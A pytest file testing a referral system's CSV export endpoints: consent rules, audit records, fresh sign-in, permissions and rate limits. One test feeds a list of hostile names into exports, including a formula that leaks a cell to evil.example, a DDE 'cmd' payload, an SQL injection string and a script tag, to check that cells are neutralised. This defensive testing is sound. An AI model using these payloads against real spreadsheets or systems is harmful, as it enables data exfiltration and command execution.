"""Lists that leave as files: for a purpose, after a code, on record before the first byte, as their list shows them."""

from __future__ import annotations

import csv as reading
import io
import json
from base64 import b64decode
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit
from uuid import UUID, uuid4
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select, text
from werkzeug.test import TestResponse

from audit.models import AuditEvent
from referrals.exchange import csv
from referrals.exchange import queries as q
from referrals.kernel import crypto
from referrals.kernel.actor import Role
from referrals.kernel.look import Disclosure
from referrals.kernel.orm import uuid7
from referrals.kernel.session import HouseSession
from referrals.organization.models import Organization
from referrals.person.models import Assignment, Person
from referrals.release.models import ReleaseDate
from referrals.sign_in.models import SignIn
from tests.factories.referral import LONG_AGO, ZONE, World, a_user, planting
from tests.referrals.referral.conftest import app, browser, smtp_url, world

__all__ = ["app", "browser", "smtp_url", "world"]

Open = Callable[[str], Any]

WHY = {"purpose": "work", "because": "Quarterly review with the team."}
LISTS = ("/participants/export", "/referrals/export")


def lines(answer: TestResponse) -> list[list[str]]:
    """What a CSV reader makes of the file."""
    assert answer.status_code == 200, answer.get_data(as_text=True)
    told = answer.get_data().decode("utf-8-sig")
    return [[csv.plain(cell) for cell in line] for line in reading.reader(io.StringIO(told, newline=""), strict=True)]


def events(session: HouseSession, *actions: str) -> list[dict[str, Any]]:
    """The events of exports, oldest first."""
    session.rollback()
    bodies = [json.loads(one) for one in session.scalars(select(AuditEvent.body).order_by(AuditEvent.id))]
    session.rollback()
    return [one for one in bodies if one["action"] in (actions or (q.EXPORTED, q.ROWS_EXPORTED))]


def disclosures(session: HouseSession) -> list[Disclosure]:
    session.rollback()
    return list(session.scalars(select(Disclosure).where(Disclosure.channel == "export").order_by(Disclosure.id)))


def grow_stale(world: World) -> None:
    """Let everybody's second factor be eleven minutes old."""
    with planting(world.session) as work:
        for one in world.session.scalars(select(SignIn)):
            one.fresh_at = work.now - timedelta(minutes=11)


def more_people(world: World, count: int, **said: Any) -> list[UUID]:
    """Further participants of the case manager."""
    made = []
    with planting(world.session):
        for number in range(count):
            row = Person(
                log_ref=uuid4(),
                organization_id=world.agency_id,
                given_name=f"Person {number}",
                family_name="More",
                birth_date=LONG_AGO.date(),
                language="en",
                agency_number=f"M{number}",
                added_at=LONG_AGO,
                added_by=world.case_manager.me,
                version=1,
                **said,
            )
            crypto.ring_of(world.session).birth(world.session, "participant", row.id)
            world.session.add(row)
            world.session.add(
                Assignment(
                    participant_id=row.id,
                    organization_id=world.agency_id,
                    user_id=world.case_manager.me,
                    tie="case_manager",
                    reason="new_to_agency",
                    from_at=LONG_AGO,
                    from_by=world.case_manager.me,
                )
            )
            made.append(row.id)
    return made


# --- what is refused --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", LISTS)
@pytest.mark.parametrize(
    ("said", "field"),
    [
        ({"because": "A review."}, "purpose"),
        ({"purpose": "statistics", "because": "A review."}, "purpose"),
        ({"purpose": "work"}, "because"),
        ({"purpose": "work", "because": "   "}, "because"),
        ({"purpose": "work", "because": "a\0b"}, "because"),
        ({"purpose": "work", "because": "a" * 401}, "because"),
    ],
)
def test_without_a_purpose_and_a_reason_nothing_leaves(
    world: World, browser: Open, path: str, said: dict[str, str], field: str
) -> None:
    world.sent()
    lee = browser("agency_supervisor")
    page = lee.post(path, said)
    assert page.status_code == 422
    assert f'href="#{field}"' in page.get_data(as_text=True)
    told = lee.call(path, said)
    assert (told.status_code, told.mimetype) == (422, "application/problem+json")
    assert field in {one["field"] for one in told.get_json()["errors"]}
    assert events(world.session) == []


def test_what_was_typed_and_the_filters_are_kept_beside_the_faults(world: World, browser: Open) -> None:
    world.sent()
    typed = {"group": "them", "urgency": "soon", "because": "For <the> court"}
    page = browser("agency_supervisor").post("/referrals/export", typed).get_data(as_text=True)
    for part in ('value="For &lt;the&gt; court"', 'name="urgency" value="soon"', 'name="group" value="them"'):
        assert part in page


@pytest.mark.parametrize("path", LISTS)
def test_s113_an_old_sign_in_is_asked_for_a_code_and_led_back_to_the_same_list(
    world: World, browser: Open, path: str
) -> None:
    world.sent()
    lee = browser("agency_supervisor")
    narrowed = {"mine": "yes"} if "participants" in path else {"group": "them", "urgency": "soon"}
    lee.page(path)
    grow_stale(world)
    assert "Enter the code first" in lee.page(f"{path}?{urlencode(narrowed)}".replace("mine=yes", ""))
    page = lee.post(path, WHY | narrowed)
    assert page.status_code == 303
    at = urlsplit(page.location)
    back = urlsplit(parse_qs(at.query)["next"][0])
    assert (at.path, back.path) == ("/sign-in/second-step", path)
    assert {name: found[0] for name, found in parse_qs(back.query).items()} == narrowed
    told = lee.call(path, WHY)
    assert (told.status_code, told.get_json()["code"]) == (403, "fresh_sign_in_needed")
    refused = events(world.session)
    assert [(one["outcome"], one["code"]) for one in refused] == [("refused", "fresh_sign_in_needed")] * 2
    assert disclosures(world.session) == []


@pytest.mark.parametrize("path", LISTS)
@pytest.mark.parametrize("who", ["agency_administrator", "case_manager", "navigator"])
def test_s210_whoever_supervises_nobody_is_refused_on_record(world: World, browser: Open, path: str, who: str) -> None:
    world.sent()
    kim = browser(who)
    if who != "agency_administrator":
        assert "/export" not in kim.page(path.removesuffix("/export"))
    found = [kim.get(path), kim.post(path, WHY), kim.call(path, WHY)]
    assert [one.status_code for one in found] == [403, 403, 403]
    assert [(one["outcome"], one["code"]) for one in events(world.session)] == [("refused", "not_permitted")] * 3


def test_a_filter_that_is_none_and_a_filter_of_pages_are_refused(world: World, browser: Open) -> None:
    world.sent()
    lee = browser("agency_supervisor")
    for words in ({"after": str(uuid7())}, {"limit": 5}, {"organization_id": str(world.cbo_id)}, {"sort": "reference"}):
        assert lee.call("/referrals/export", WHY | words).status_code == 422, words
    assert events(world.session) == []


@pytest.mark.parametrize("path", LISTS)
def test_a_list_longer_than_a_file_takes_leaves_nothing_and_says_how_to_go_on(
    world: World, browser: Open, path: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.sent()
    monkeypatch.setattr(q, "MOST", 0)
    lee = browser("agency_supervisor")
    words = WHY if "participants" in path else WHY | {"group": "them"}
    narrowed = "" if "participants" in path else "?group=them"
    assert "narrow it by its filters" in lee.page(path + narrowed)
    page = lee.post(path, words)
    assert page.status_code == 422
    assert "narrow it by its filters" in page.get_data(as_text=True)
    told = lee.call(path, words)
    assert (told.status_code, told.get_json()["code"], told.get_json()["facts"]) == (422, "too_many_rows", {"most": 0})
    assert events(world.session) == []


# --- what is in it ----------------------------------------------------------------------------------------------------


def test_another_organization_gets_a_file_without_a_row(world: World, browser: Open) -> None:
    world.sent()
    elsewhere = world.session.get_one(Organization, world.other_cbo_id)
    made, world.people["stranger"] = a_user(elsewhere, "Sol Reed", Role.SUPERVISOR)
    with planting(world.session):
        world.session.add_all(made)
    eli = browser("stranger")
    for path in LISTS:
        assert "the list is empty" in eli.page(path)
        assert len(lines(eli.call(path, WHY))) == 1
    assert [one["count"] for one in events(world.session, q.ROWS_EXPORTED)] == [0, 0]


def test_a_file_holds_what_its_list_shows(world: World, browser: Open) -> None:
    referral_id = world.sent()
    lee = browser("agency_supervisor")
    people = lines(lee.post("/participants/export", WHY))
    assert people == [["Name", "Agency number", "Facility"], ["Maria Núñez", "V48213", ""]]
    row = world.row(referral_id)
    sent = row.sent_at
    assert sent is not None
    header, line = lines(lee.post("/referrals/export", WHY | {"group": "them"}))
    told = dict(zip(header, line, strict=True))
    at = {name: told.pop(f"{name} ({ZONE})") for name in ("Due", "Sent", "Last step")}
    assert at["Sent"] == at["Last step"] == f"{sent.astimezone(ZoneInfo(ZONE)):%Y-%m-%d %H:%M}"
    assert at["Due"] > at["Sent"]
    assert told == {
        "Participant": "Maria Núñez",
        "Reference": row.reference,
        "From": "Valley State Prison",
        "Program": "Bridge Housing",
        "Organization": "Second Start",
        "Service": "Housing",
        "Urgency": "Soon",
        "Status": "Sent",
        "Outcome": "",
        "Overdue": "",
    }


def test_the_header_is_in_the_readers_language(world: World, browser: Open) -> None:
    world.sent()
    answer = browser("agency_supervisor").call("/participants/export", WHY, Accept_Language="es")
    assert lines(answer)[0] == ["Nombre", "Número de la agencia", "Centro"]


def test_filters_narrow_the_file_as_they_do_the_list(world: World, browser: Open) -> None:
    world.sent()
    lee = browser("agency_supervisor")
    more_people(world, 2)
    assert len(lines(lee.post("/participants/export", WHY))) == 4
    assert [line[0] for line in lines(lee.post("/participants/export", WHY | {"language": "es"}))[1:]] == [
        "Maria Núñez"
    ]
    named = lines(lee.post("/participants/export", WHY | {"sort": "name"}))
    assert [line[0] for line in named[1:]] == ["Person 0 More", "Person 1 More", "Maria Núñez"]
    assert len(lines(lee.post("/referrals/export", WHY | {"group": "them", "urgency": "urgent"}))) == 1
    for colleague, rows in (("case_manager", 2), ("other_case_manager", 1)):
        narrowed = {"group": "them", "colleague_id": str(world.people[colleague].me)}
        assert len(lines(lee.post("/referrals/export", WHY | narrowed))) == rows
    assert len(lines(lee.post("/referrals/export", WHY | {"group": "them", "urgency": "soon"}))) == 2


def test_release_days_go_along_where_the_list_shows_them(world: World, browser: Open) -> None:
    day = datetime.now(UTC).date() + timedelta(days=20)
    with planting(world.session) as work:
        world.session.add(
            ReleaseDate(
                participant_id=world.person_id,
                organization_id=world.agency_id,
                expected_on=day,
                source="agency_record",
                as_of=LONG_AGO.date(),
                recorded_at=work.now,
                recorded_by=world.case_manager.me,
            )
        )
    found = lines(browser("agency_supervisor").post("/participants/export", WHY | {"leaving": "30"}))
    assert found[0][-1] == "Release"
    assert [line[-1] for line in found[1:]] == [day.isoformat()]


def test_lists_longer_than_a_page_are_whole_and_in_order(
    world: World, browser: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = more_people(world, 7)
    monkeypatch.setattr(q, "READ_AT_ONCE", 3)
    found = lines(browser("agency_supervisor").post("/participants/export", WHY))
    assert [line[1] for line in found[1:]] == [f"M{number}" for number in reversed(range(7))] + ["V48213"]
    named = [row for one in events(world.session, q.ROWS_EXPORTED) for on in one["on"] for row in on["rows"]]
    assert len(named) == len({row[1] for row in named}) == len(made) + 1


HOSTILE = (
    *('=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\uff1d1+1"),
    *(
        '"; DROP TABLE person; --',
        "<script>alert(1)</script>",
        "\u202e\u05e9\u05dc\u05d5\u05dd\u202c",
        "👩‍👩‍👧 family",
        "O'Brien, Jr.",
        "'=1",
    ),
)


@pytest.mark.parametrize("name", HOSTILE)
def test_s305_a_hostile_name_comes_back_as_it_was_and_runs_nowhere(world: World, browser: Open, name: str) -> None:
    with planting(world.session):
        person = world.session.get_one(Person, world.person_id)
        person.given_name, person.family_name, person.agency_number = name, "X", name
    answer = browser("agency_supervisor").post("/participants/export", WHY)
    assert lines(answer)[1] == [f"{name} X", name, ""]
    raw = list(reading.reader(io.StringIO(answer.get_data().decode("utf-8-sig"), newline="")))
    assert not [cell for line in raw for cell in line if cell.startswith(("=", "+", "-", "@", "\uff1d"))]


# --- what crosses, and what is on record ------------------------------------------------------------------------------


def test_a_consent_withdrawn_between_page_and_download_closes_the_file(world: World, browser: Open) -> None:
    world.accepted()
    ana = browser("cbo_supervisor")
    assert "1 row" in ana.page("/participants/export")
    assert "Núñez" in ana.page("/participants")
    world.withdraw_consent()
    found = lines(ana.post("/participants/export", WHY))
    assert found[1:] == [["Not shared", "Not shared", "Not shared"]]
    assert disclosures(world.session) == []
    for group in ("us", "them", "closed"):
        answer = ana.post("/referrals/export", WHY | {"group": group})
        assert "Núñez".encode() not in answer.get_data()


@pytest.mark.parametrize(("purpose", "name"), [("work", "Maria Núñez"), ("legal_duty", "Not shared")])
def test_what_others_shared_goes_along_only_for_a_purpose_that_its_consent_names(
    world: World, browser: Open, purpose: str, name: str
) -> None:
    """Consent rules C8 and C18. One's own records go along for each purpose."""
    world.sent()
    found = lines(browser("cbo_supervisor").post("/referrals/export", WHY | {"purpose": purpose}))
    assert [line[0] for line in found[1:]] == [name]
    own = lines(browser("agency_supervisor").post("/participants/export", WHY | {"purpose": purpose}))
    assert own[1][0] == "Maria Núñez"
    crossed = {(one.row_type, one.purpose) for one in disclosures(world.session)}
    assert crossed == ({("referral", "referral"), ("person", "referral")} if purpose == "work" else set())


def test_the_act_its_rows_and_what_crossed_are_on_record_and_why_is_sealed(world: World, browser: Open) -> None:
    world.sent()
    ana = browser("cbo_supervisor")
    assert len(lines(ana.post("/referrals/export", WHY))) == 2
    found = events(world.session)
    assert {one["request"] for one in found} == {found[0]["request"]}
    assert {(one["actor"]["id"], one["purpose"], one["outcome"]) for one in found} == {
        (str(world.cbo_supervisor.me), "referral", "done")
    }
    (act,) = (one for one in found if one["action"] == q.EXPORTED)
    assert act["count"] == 1
    sealed = b64decode(act["sealed"][0]["ct"])
    assert crypto.open_detail(world.session, None, sealed, UUID(act["id"])) == {
        "list": "referrals",
        "for": "work",
        "because": WHY["because"],
    }
    world.session.rollback()
    assert WHY["because"] not in json.dumps(found)
    rows = [one for one in found if one["action"] == q.ROWS_EXPORTED]
    reference = str(world.session.get_one(Person, world.person_id).log_ref)
    assert {on["type"] for one in rows for on in one["on"]} == {"person", "referral"}
    assert {row[1] for one in rows for on in one["on"] for row in on["rows"]} == {reference}
    assert all(one["to"] == str(world.cbo_id) and one["basis"]["kind"] == "consent" for one in rows)
    assert {"person.family_name", "referral.service"} <= {name for one in rows for name in one["fields"]}
    crossed = disclosures(world.session)
    assert {(one.from_org_id, one.to_org_id, one.to_user_id) for one in crossed} == {
        (world.agency_id, world.cbo_id, world.cbo_supervisor.me)
    }
    assert {one.basis_id for one in crossed} == {world.consent_id}
    shown = events(world.session, "referral.listed", "person.named", "referral.counted")
    assert act["request"] not in {one["request"] for one in shown}


@pytest.mark.parametrize("path", LISTS)
def test_l1_what_cannot_be_recorded_does_not_leave(world: World, browser: Open, path: str) -> None:
    world.sent()
    lee = browser("agency_supervisor")
    lee.page(path)
    full = text("CREATE TRIGGER full BEFORE INSERT ON audit_event BEGIN SELECT RAISE(ABORT, 'read-only'); END")
    with world.session.get_bind().connect() as connection:  # type: ignore[union-attr]  # an engine
        connection.execute(full)
        connection.commit()
    for answer in (lee.post(path, WHY), lee.call(path, WHY)):
        assert answer.status_code == 503
        assert "Núñez" not in answer.get_data(as_text=True)


def test_the_answer_is_a_file_to_keep_that_nobody_else_keeps(world: World, browser: Open) -> None:
    world.sent()
    lee = browser("agency_supervisor")
    for path in LISTS:
        for answer in (lee.post(path, WHY), lee.call(path, WHY)):
            headers = answer.headers
            assert headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
            assert headers["Cache-Control"] == "no-store"
            assert headers["X-Content-Type-Options"] == "nosniff"
            kind, _, name = headers["Content-Disposition"].partition("; filename=")
            assert kind == "attachment"
            assert name.removesuffix(".csv").startswith(f"{path.split('/')[1]}-20")
            assert answer.get_data().startswith(b"\xef\xbb\xbf")


def test_the_lists_lead_to_the_page_with_their_filters_and_the_page_back(world: World, browser: Open) -> None:
    world.sent()
    lee = browser("agency_supervisor")
    assert 'href="/participants/export?language=es"' in lee.page("/participants?language=es")
    shown = lee.page("/referrals?group=them&urgency=soon").replace("&amp;", "&")
    assert 'href="/referrals/export?group=them&urgency=soon"' in shown
    page = lee.page("/referrals/export?group=them&urgency=soon").replace("&amp;", "&")
    for part in ("The file will hold 1 row", "Waiting on them, Soon", "Participant, Reference", "under your name"):
        assert part in page
    assert "/referrals?" in page
    (counted,) = events(world.session, q.ROWS_COUNTED)
    assert (counted["count"], counted["purpose"]) == (1, "referral")


def test_s117_thirty_files_an_hour_are_enough_for_one_person(world: World, browser: Open) -> None:
    world.sent()
    lee, sam = browser("agency_supervisor"), browser("cbo_supervisor")
    found = [lee.call(LISTS[turn % 2], {}).status_code for turn in range(32)]
    assert found == [422] * 30 + [429] * 2
    assert lee.post("/referrals/export", WHY).status_code == 429
    assert sam.call("/participants/export", WHY).status_code == 200
